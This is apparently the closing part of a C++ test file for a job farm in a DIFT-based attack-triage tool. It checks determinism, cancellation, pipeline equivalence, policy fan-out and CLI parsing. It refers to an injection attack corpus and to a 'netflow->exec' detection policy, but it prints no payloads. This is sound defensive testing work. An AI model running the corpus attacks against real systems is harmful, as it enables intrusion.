  EXPECT_EQ(fr.retries, 1u);

  // Byte-identical modulo the retries field.
  JobResult normalized = fr;
  normalized.retries = 0;
  EXPECT_EQ(farm::job_jsonl(normalized), farm::job_jsonl(cr));
  EXPECT_EQ(farm::job_metrics_jsonl(normalized), farm::job_metrics_jsonl(cr));
}

TEST(Farm, InjectedRetriesAreDeterministicAcrossWorkerCounts) {
  auto make_jobs = [] {
    std::vector<JobSpec> jobs;
    for (int i = 0; i < 6; ++i) {
      JobSpec spec = tiny_job("flaky" + std::to_string(i));
      spec.inject_failures = (i % 2) ? 1u : 0u;  // alternate clean / retried
      jobs.push_back(std::move(spec));
    }
    // Exhausting the retry budget must fail deterministically too.
    JobSpec dead = tiny_job("dead");
    dead.inject_failures = 2;
    jobs.push_back(std::move(dead));
    return jobs;
  };

  FarmConfig c1;
  c1.workers = 1;
  FarmConfig c3;
  c3.workers = 3;
  auto r1 = Farm(c1).run(make_jobs());
  auto r3 = Farm(c3).run(make_jobs());
  ASSERT_EQ(r1.results.size(), 7u);
  ASSERT_EQ(r3.results.size(), 7u);
  for (size_t i = 0; i < r1.results.size(); ++i) {
    EXPECT_EQ(farm::job_jsonl(r1.results[i]), farm::job_jsonl(r3.results[i]))
        << r1.results[i].name;
  }
  EXPECT_EQ(r1.results[1].retries, 1u);  // flaky1 used its retry
  EXPECT_EQ(r1.results[6].status, JobStatus::kError);  // dead exhausted it
  EXPECT_NE(r1.results[6].error.find("injected failure"), std::string::npos);
}

TEST(Farm, ResultsStreamInStableIdOrder) {
  FarmConfig cfg;
  cfg.workers = 4;
  std::vector<u32> seen;
  cfg.on_result = [&](const JobResult& r) { seen.push_back(r.id); };
  Farm f(cfg);

  std::vector<JobSpec> jobs;
  for (int i = 0; i < 24; ++i) jobs.push_back(tiny_job("t" + std::to_string(i)));
  auto report = f.run(jobs);

  ASSERT_EQ(seen.size(), 24u);
  for (u32 i = 0; i < seen.size(); ++i) EXPECT_EQ(seen[i], i);
  for (u32 i = 0; i < report.results.size(); ++i)
    EXPECT_EQ(report.results[i].id, i);
}

TEST(Farm, CancelMidQueueDrainsCleanly) {
  // Repetition matters here: shutdown races only show up across runs.
  for (int round = 0; round < 5; ++round) {
    FarmConfig cfg;
    cfg.workers = 2;
    Farm f(cfg);

    std::vector<JobSpec> jobs;
    for (int i = 0; i < 120; ++i)
      jobs.push_back(tiny_job("j" + std::to_string(i)));

    farm::TriageReport report;
    std::thread runner([&] { report = f.run(jobs); });
    std::this_thread::sleep_for(std::chrono::milliseconds(5 * round));
    f.request_cancel();
    runner.join();

    // Every job accounted for exactly once, ids ascending, and each is
    // either finished or cleanly cancelled — nothing lost, nothing hung.
    ASSERT_EQ(report.results.size(), 120u);
    for (u32 i = 0; i < report.results.size(); ++i) {
      const JobResult& r = report.results[i];
      EXPECT_EQ(r.id, i);
      EXPECT_TRUE(r.status == JobStatus::kOk ||
                  r.status == JobStatus::kCancelled)
          << r.name << " -> " << farm::job_status_name(r.status);
    }
    EXPECT_EQ(report.metrics.ok + report.metrics.cancelled, 120u);
  }
}

TEST(Farm, AsyncAndSyncDiftProduceIdenticalStreams) {
  // The decoupled producer/consumer pipeline (core/pipeline.h) must be
  // observably indistinguishable from the historical inline engine:
  // verdicts, findings, per-rule eval counters, provenance stats — the
  // whole job line. A tiny ring forces the backpressure path through the
  // same equivalence.
  auto jobs = corpus_jobs(attacks::injection_corpus());

  FarmConfig async_cfg;
  async_cfg.async_dift = true;
  std::string async_out = farm::results_jsonl(Farm(async_cfg).run(jobs));

  FarmConfig sync_cfg;
  sync_cfg.async_dift = false;
  std::string sync_out = farm::results_jsonl(Farm(sync_cfg).run(jobs));

  FarmConfig tiny_ring_cfg;
  tiny_ring_cfg.async_dift = true;
  tiny_ring_cfg.ring_capacity = 8;
  std::string tiny_out = farm::results_jsonl(Farm(tiny_ring_cfg).run(jobs));

  EXPECT_EQ(async_out, sync_out);
  EXPECT_EQ(async_out, tiny_out);
  ASSERT_FALSE(async_out.empty());
  EXPECT_NE(async_out.find("\"verdict\":\"TP\""), std::string::npos);
  EXPECT_NE(async_out.find("\"rules\":"), std::string::npos);
}

TEST(Farm, MultiPolicyFanOutMatchesSeparateRuns) {
  // Record-once/analyze-many: one replay teed to extra policy engines must
  // produce, per set, exactly what a separate farm run with that set as
  // the primary ruleset would — in both async (trace tee) and sync
  // (re-replay) modes.
  auto jobs = corpus_jobs(attacks::injection_corpus());
  jobs.resize(4);
  std::vector<core::RuleSpec> alt = core::builtin_rules(false, true, true);

  auto fan_out = [&](bool async) {
    FarmConfig cfg;
    cfg.async_dift = async;
    cfg.extra_policies.push_back(farm::PolicySet{"alt", alt});
    return Farm(cfg).run(jobs);
  };
  farm::TriageReport async_rep = fan_out(true);
  farm::TriageReport sync_rep = fan_out(false);

  FarmConfig alone_cfg;
  alone_cfg.engine_opts.rules = alt;
  farm::TriageReport alone = Farm(alone_cfg).run(jobs);

  ASSERT_EQ(async_rep.results.size(), 4u);
  ASSERT_EQ(sync_rep.results.size(), 4u);
  for (size_t i = 0; i < async_rep.results.size(); ++i) {
    const JobResult& a = async_rep.results[i];
    EXPECT_EQ(farm::job_jsonl(a), farm::job_jsonl(sync_rep.results[i]));
    ASSERT_EQ(a.policy_runs.size(), 1u) << a.name;
    EXPECT_EQ(a.policy_runs[0].name, "alt");
    const JobResult& solo = alone.results[i];
    EXPECT_EQ(a.policy_runs[0].flagged, solo.flagged) << a.name;
    EXPECT_EQ(a.policy_runs[0].findings, solo.findings) << a.name;
    EXPECT_EQ(a.policy_runs[0].suppressed, solo.suppressed) << a.name;
    EXPECT_EQ(a.policy_runs[0].policies, solo.policies) << a.name;
    // The primary verdict is untouched by fan-out.
    EXPECT_NE(farm::job_jsonl(a).find("\"policy_runs\":"), std::string::npos);
  }
  // Streams without extra policies never carry the field.
  FarmConfig plain_cfg;
  farm::TriageReport plain = Farm(plain_cfg).run(jobs);
  EXPECT_EQ(farm::job_jsonl(plain.results[0]).find("policy_runs"),
            std::string::npos);
}

TEST(TriageCli, PairedFlagsParseAndRoundTrip) {
  using farm::parse_triage_cli;
  using farm::render_triage_cli;

  // Defaults.
  farm::TriageCliResult def = parse_triage_cli({});
  ASSERT_TRUE(def.ok()) << def.error;
  EXPECT_TRUE(def.opts.farm.async_dift);
  EXPECT_TRUE(def.opts.farm.snapshot);
  EXPECT_TRUE(def.opts.farm.engine_opts.block_cache);
  EXPECT_TRUE(def.opts.farm.engine_opts.summary_elide);
  EXPECT_FALSE(def.opts.farm.static_prefilter);
  EXPECT_FALSE(def.opts.farm.static_prune);

  // Every boolean feature has a working --X and --no-X spelling.
  const char* features[] = {"block-cache", "summary-elide", "snapshot",
                            "static-prefilter", "static-prune", "async-dift",
                            "quiet"};
  for (const char* f : features) {
    auto on = parse_triage_cli({std::string("--") + f});
    auto off = parse_triage_cli({std::string("--no-") + f});
    ASSERT_TRUE(on.ok()) << f << ": " << on.error;
    ASSERT_TRUE(off.ok()) << f << ": " << off.error;
    // The two spellings must land on opposite values of the same knob:
    // their rendered canonical argv differs in exactly that flag.
    EXPECT_NE(render_triage_cli(on.opts), render_triage_cli(off.opts)) << f;
  }

  // --sync-dift is the alias for --no-async-dift.
  auto sync1 = parse_triage_cli({"--sync-dift"});
  auto sync2 = parse_triage_cli({"--no-async-dift"});
  ASSERT_TRUE(sync1.ok() && sync2.ok());
  EXPECT_FALSE(sync1.opts.farm.async_dift);
  EXPECT_EQ(render_triage_cli(sync1.opts), render_triage_cli(sync2.opts));

  // Full-surface round trip: parse → render → parse reproduces the config.
  std::vector<std::string> argv = {
      "--workers", "8", "--jobs", "20", "--filter", "jit", "--category",
      "injection", "--timeout-ms", "1234", "--budget", "99", "--out",
      "r.jsonl", "--metrics", "m.jsonl", "--graph-out", "graphs",
      "--ring-capacity", "16", "--policies", "a.json,b.json,c.json",
      "--no-block-cache", "--no-summary-elide", "--no-snapshot",
      "--static-prefilter", "--static-prune", "--sync-dift", "--quiet"};
  farm::TriageCliResult once = parse_triage_cli(argv);
  ASSERT_TRUE(once.ok()) << once.error;
  EXPECT_EQ(once.opts.farm.workers, 8u);
  EXPECT_EQ(once.opts.farm.timeout_ms, 1234u);
  EXPECT_EQ(once.opts.farm.ring_capacity, 16u);
  EXPECT_FALSE(once.opts.farm.engine_opts.block_cache);
  EXPECT_FALSE(once.opts.farm.machine.kernel.block_cache);
  EXPECT_FALSE(once.opts.farm.async_dift);
  ASSERT_EQ(once.opts.policy_paths.size(), 3u);
  EXPECT_EQ(once.opts.policy_paths[1], "b.json");

  farm::TriageCliResult twice = parse_triage_cli(render_triage_cli(once.opts));
  ASSERT_TRUE(twice.ok()) << twice.error;
  EXPECT_EQ(render_triage_cli(once.opts), render_triage_cli(twice.opts));

  // Errors: unknown flags and missing values are reported, not swallowed.
  EXPECT_FALSE(parse_triage_cli({"--bogus"}).ok());
  EXPECT_FALSE(parse_triage_cli({"--workers"}).ok());
  EXPECT_FALSE(parse_triage_cli({"--workers", "many"}).ok());
  EXPECT_FALSE(parse_triage_cli({"--filter"}).ok());

  // The grouped help names every paired feature.
  std::string usage = farm::triage_usage();
  for (const char* f : features) {
    EXPECT_NE(usage.find(std::string("--") + f), std::string::npos) << f;
    EXPECT_NE(usage.find(std::string("--no-") + f), std::string::npos) << f;
  }
  EXPECT_NE(usage.find("--sync-dift"), std::string::npos);
}

TEST(FarmResults, JsonlIsWellFormedAndEscaped) {
  JobResult r;
  r.id = 7;
  r.name = "weird \"name\"\twith\nescapes";
  r.category = "test";
  r.status = JobStatus::kOk;
  r.flagged = true;
  r.policies = {"netflow->exec"};
  std::string line = farm::job_jsonl(r);
  EXPECT_EQ(line.front(), '{');
  EXPECT_EQ(line.back(), '}');
  EXPECT_NE(line.find("\\\"name\\\""), std::string::npos);
  EXPECT_NE(line.find("\\n"), std::string::npos);
  EXPECT_NE(line.find("\"verdict\":\"FP\""), std::string::npos);
  EXPECT_EQ(line.find('\n'), std::string::npos);  // one record, one line

  farm::FarmMetrics m;
  m.jobs = 3;
  std::string s = farm::summary_jsonl(m);
  EXPECT_NE(s.find("\"type\":\"summary\""), std::string::npos);
  EXPECT_NE(s.find("\"jobs\":3"), std::string::npos);
}

}  // namespace
}  // namespace faros
